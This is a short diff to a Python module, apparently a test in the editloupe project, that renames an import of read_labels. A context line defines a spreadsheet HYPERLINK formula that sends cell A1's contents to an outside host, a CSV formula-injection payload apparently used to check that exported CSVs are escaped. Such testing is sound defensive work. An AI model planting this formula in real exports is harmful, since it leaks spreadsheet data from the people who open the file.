@@ -5,7 +5,7 @@ from __future__ import annotations
 import csv
 from pathlib import Path
 
-from editloupe.figures.labels import read_labels
+from editloupe.figures.human_labels import read_labels
 from editloupe.figures.render import records_csv
 
 FORMULA = '=HYPERLINK("http://h/?"&A1,"see")'
